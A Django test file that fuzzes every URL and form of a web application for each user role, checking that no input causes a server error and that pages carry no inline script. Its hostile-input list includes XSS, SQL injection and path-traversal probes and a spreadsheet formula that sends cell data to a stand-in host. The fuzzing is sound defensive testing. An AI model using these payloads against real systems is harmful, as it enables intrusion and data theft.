"""Every URL pattern and every form, for every role, with generated values: no 500
(issue 15, item 7 "No 500 for any input"; the API also has tests/unit/api/test_schemathesis.py).

For each role the test visits every URL pattern of the product (``config.urls``,
the admin and /staff/ included), its path parameters drawn from the ids of a small
world of records and from hostile values; it GETs each with generated query
parameters and POSTs generated values to every form the page shows (and to the
URL itself when it takes POST only). Any answer >= 500 fails, with the request.
Each 200 HTML page is also checked for inline script, style and event handlers
(the Content-Security-Policy allows none; issue 15, item 4).

Bounded for CI: ``EXAMPLES`` rounds per role, derandomised, no shrinking.
"""

import random
import re
import string
import traceback
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.signals import got_request_exception
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.urls.resolvers import RegexPattern, RoutePattern
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from sparring.models import User
from tests.conftest import make_user
from tests.unit.test_csp_templates import inline_pieces

pytestmark = pytest.mark.django_db(transaction=True)

EXAMPLES = 5
ROLES = [
    "anonymous",
    "applicant",
    "other_applicant",
    "consultant",
    "coordinator",
    "steering",
    "superuser",
]
# Leave the session as it is: logging out would make the rest of the round anonymous.
SKIP_PATHS = re.compile(r"^/(accounts/logout/|admin/logout/|i18n/setlang/)")

HOSTILE = [
    "",
    "0",
    "-1",
    "2147483648",
    "9223372036854775808",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "-0",
    "1,5",
    "0001-01-01",
    "9999-12-31",
    "31.12.9999",
    "2026-02-30",
    "0001-01-01T00:00",
    "9999-12-31T23:59",
    "0001-01-01 00:00",
    "2026-13-01",
    "25:61",
    "\x00",
    "a\x00b",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://x.example/?d="&A1,"…")',
    "x" * 20000,
    "ä" * 3000,
    "../../etc/passwd",
    "' OR 1=1 --",
    "%00",
    "\r\n\r\n",
    "🙂",
]
values = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=30))
ids = st.one_of(st.integers(1, 6), st.sampled_from([0, 10**12, 2**63]))
path_text = st.one_of(
    st.sampled_from(["a", "0", "-1", "x" * 300, "%20", "ä", "null"]),
    st.text(alphabet=string.ascii_letters + string.digits + "-_", min_size=1, max_size=40),
)


# Hypothesis generates the values of a round up front; which of them goes where is then
# picked by a seeded random.Random, so that generation never depends on the answers
# (the forms a page shows change as the round's POSTs change the records).
POOL = st.fixed_dictionaries(
    {
        "values": st.lists(values, min_size=64, max_size=64),
        "path_texts": st.lists(path_text, min_size=16, max_size=16),
        "ids": st.lists(ids, min_size=16, max_size=16),
        "seed": st.integers(0, 2**32 - 1),
    }
)


class _Draw:
    """Picks from one round's generated values."""

    def __init__(self, pool: dict):
        self.pool = pool
        self.random = random.Random(pool["seed"])

    def value(self):
        return self.random.choice(self.pool["values"])

    def path_text(self):
        return self.random.choice(self.pool["path_texts"])

    def integer(self):
        return self.random.choice(self.pool["ids"])

    def choice(self, options):
        return self.random.choice(options)

    def coin(self) -> bool:
        return self.random.random() < 0.5


class _Forms(HTMLParser):
    """The POST forms of a page: action and fields (name -> kind, options)."""

    def __init__(self):
        super().__init__()
        self.forms: list[dict] = []
        self._form: dict | None = None
        self._select: str | None = None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form" and (a.get("method") or "").lower() == "post":
            self._form = {"action": a.get("action") or "", "fields": {}}
            self.forms.append(self._form)
        if self._form is None or not a.get("name"):
            if tag == "option" and self._form is not None and self._select:
                self._form["fields"][self._select][1].append(a.get("value", ""))
            return
        name = a["name"]
        if tag == "input":
            kind = (a.get("type") or "text").lower()
            if kind in ("submit", "button", "image", "reset"):
                return
            self._form["fields"][name] = (kind, [a.get("value", "")])
        elif tag == "textarea":
            self._form["fields"][name] = ("textarea", [])
        elif tag == "select":
            self._form["fields"][name] = ("select", [])
            self._select = name

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        if tag == "select":
            self._select = None


def _concrete(route: str, draw) -> str | None:
    """A path for a URL pattern, its parameters drawn from ids and hostile values."""

    def param(match):
        converter = match.group(1) or "str"
        if converter == "int":
            return str(draw.integer())
        if converter == "uuid":
            return "12345678-1234-5678-1234-567812345678"
        return draw.path_text()

    path = re.sub(r"<(?:(\w+):)?\w+>", param, route)
    return "/" + path


def _regex_to_path(regex: str) -> str:
    path = regex.lstrip("^").rstrip("$").replace("\\Z", "")
    # a group of alternatives (the admin's app labels): the first; any other group: "1"
    path = re.sub(r"\(\?P<\w+>([\w-]+)(?:\|[^)]*)?\)", r"\1", path)
    path = re.sub(r"\(\?P<\w+>[^)]*\)", "1", path)
    return path.replace("\\", "")


def url_routes() -> list[str]:
    """Every URL pattern of the product as a route with <converter:name> parameters."""

    def walk(resolver, prefix):
        for entry in resolver.url_patterns:
            pattern = entry.pattern
            if isinstance(pattern, RoutePattern):
                text = str(pattern._route)
            elif isinstance(pattern, RegexPattern):
                text = _regex_to_path(pattern._regex)
            else:
                text = str(pattern)
            if isinstance(entry, URLResolver):
                yield from walk(entry, prefix + text)
            elif isinstance(entry, URLPattern):
                yield prefix + text

    return sorted(set(walk(get_resolver(), "")))


def _value_for(kind: str, options: list, draw):
    if kind == "file":
        name = draw.choice(["a.pdf", "a.exe", "a.html", ".pdf", "x" * 250 + ".pdf"])
        content = draw.choice([b"", b"%PDF-1.4\n%%EOF", b"<html>", b"MZ\x90\x00"])
        return SimpleUploadedFile(name, content)
    if kind == "checkbox" and draw.coin():
        return None
    if options and draw.coin():
        return draw.choice(options)
    return draw.value()


@pytest.fixture
def world(reported_case, agreement, other_applicant, open_call, draft_case, applicant):
    """A reported case (days, report PDF, survey), a draft, a case of another organisation."""
    from tests.unit.api.test_api import submit

    submit(other_applicant, open_call)
    return reported_case


@pytest.fixture
def people(users_by_role, other_applicant, db):
    superuser = make_user(User.Role.COORDINATOR, "sanna.superuser")
    User.objects.filter(pk=superuser.pk).update(is_superuser=True, is_staff=True)
    superuser.refresh_from_db()
    return {**users_by_role, "other_applicant": other_applicant, "superuser": superuser}


@pytest.mark.parametrize("role", ROLES)
def test_no_input_answers_500(role, world, people):
    routes = url_routes()
    assert len(routes) >= 150, len(routes)
    user = people.get(role)
    failures: list[str] = []
    inline: dict[str, list[str]] = {}
    errors: list[str] = []
    counts = {"requests": 0, "pages": 0, "forms": 0}

    def record(sender, request=None, **kwargs):
        errors.append(traceback.format_exc())

    got_request_exception.connect(record)

    @settings(
        max_examples=EXAMPLES,
        deadline=None,
        derandomize=True,
        database=None,
        phases=[Phase.explicit, Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(pool=POOL)
    def round_of_requests(pool):
        draw = _Draw(pool)
        client = Client(raise_request_exception=False)
        for route in routes:
            path = _concrete(route, draw)
            if path is None or SKIP_PATHS.match(path):
                continue
            if user is not None:
                client.force_login(user)
            query = {draw.choice(["page", "q", "month", "format", "start", "status"]): draw.value()}
            response = client.get(path, query)
            _check(response, "GET", path, query)
            forms = []
            if response.status_code == 200 and "html" in response.get("Content-Type", ""):
                counts["pages"] += 1
                html = response.content.decode(errors="replace")
                pieces = inline_pieces(html)
                if pieces:
                    inline[path] = pieces[:3]
                parser = _Forms()
                parser.feed(html)
                forms = parser.forms
                counts["forms"] += len(forms)
            if not forms:
                forms = [
                    {"action": "", "fields": {"version": ("text", []), "comment": ("text", [])}}
                ]
            for form in forms[:6]:
                target = urlsplit(form["action"]).path or path
                if SKIP_PATHS.match(target) or target.startswith("http"):
                    continue
                post = {}
                for name, (kind, options) in form["fields"].items():
                    if name == "csrfmiddlewaretoken":
                        continue
                    value = _value_for(kind, [o for o in options if o], draw)
                    if value is not None:
                        post[name] = value
                response = client.post(target, post)
                _check(response, "POST", target, {k: str(v)[:80] for k, v in post.items()})

    def _check(response, method, path, data):
        counts["requests"] += 1
        # /health/ answers 503 on purpose when a worker or beat is not running (CI has none)
        unhealthy = path.startswith("/health/") and response.status_code == 503
        if response.status_code >= 500 and not unhealthy:
            detail = errors[-1][-1500:] if errors else ""
            failures.append(f"{role} {method} {path} {data!r} -> {response.status_code}\n{detail}")
        errors.clear()

    try:
        round_of_requests()
    finally:
        got_request_exception.disconnect(record)
    assert not failures, "\n\n".join(failures[:10]) + f"\n({len(failures)} in all)"
    # the round really went everywhere (not a run of redirects)
    assert counts["requests"] >= len(routes) * EXAMPLES * 1.5, counts
    if role in ("coordinator", "superuser"):
        assert counts["pages"] >= 40 and counts["forms"] >= 20, counts
    assert not inline, inline


# ------------------------------------------------------------------------------
# What the fuzz test found, each as a plain test
# ------------------------------------------------------------------------------


def test_a_superuser_who_is_no_consultant_gets_403_on_the_consultant_pages(people, client_for):
    client = client_for(people["superuser"])
    assert client.get("/consultant/").status_code == 403
    assert client.get("/consultant/profile/").status_code == 403


def test_the_admin_password_form_of_a_non_numeric_id_is_404(people, client_for):
    client = client_for(people["superuser"])
    assert client.get("/admin/sparring/user/a/password/").status_code == 404


@pytest.mark.parametrize(
    "model", ["procurement/consultant", "sparring/user", "procurement/supplier"]
)
def test_an_admin_action_on_a_nonsense_selection_is_no_error(model, people, world, client_for):
    client = client_for(people["superuser"])
    client.raise_request_exception = False
    response = client.post(
        f"/admin/{model}/",
        {"action": "delete_selected", "select_across": "0", "_selected_action": "9999-12-31T23:59"},
    )
    assert response.status_code < 500
